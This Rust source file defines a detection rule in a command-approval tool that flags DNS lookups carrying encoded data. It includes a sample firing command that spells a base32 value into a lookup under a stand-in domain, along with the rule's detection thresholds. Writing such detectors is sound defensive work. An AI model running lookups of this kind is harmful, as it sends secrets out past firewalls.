//! `dns.exfiltration`: data spelled into the names looked up.
//!
//! The finding is raised in [`crate::approver::wall`]. What it catches, why, and an example:
//! [`RULE`], shown by `foresee rules explain dns.exfiltration`.

use super::{Example, Rule, Run};
use crate::approver::Decision;

pub const RULE: Rule = Rule {
    id: "dns.exfiltration",
    action: Decision::Ask,
    catches: "a name looked up carries data: a label longer than 40 characters, a label of 20 or more letters \
        and digits as random as encoded data, 12 or more distinct names under one domain, or a value of \
        a protected file (as `secret.disclosed` finds it: base32, hex, base64, in pieces), names of \
        reverse lookups aside",
    why: "A lookup is a message: the resolver passes the name on to whoever runs the domain, through \
        firewalls that block every connection. Data spelled into names (a key in base32, a file in \
        pieces) leaves that way even when nothing connects.",
    example: Example {
        setup: "",
        fires: Run {
            command: "getent hosts mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpjqwey3e.x.example.com >/dev/null; true",
            task: None,
            flags: &[],
        },
        passes: Run { command: "getent hosts www.example.com >/dev/null; true", task: None, flags: &[] },
        contrast: "an ordinary name carries no data (it is still a network attempt)",
    },
    sources: &["src/approver/wall.rs"],
};
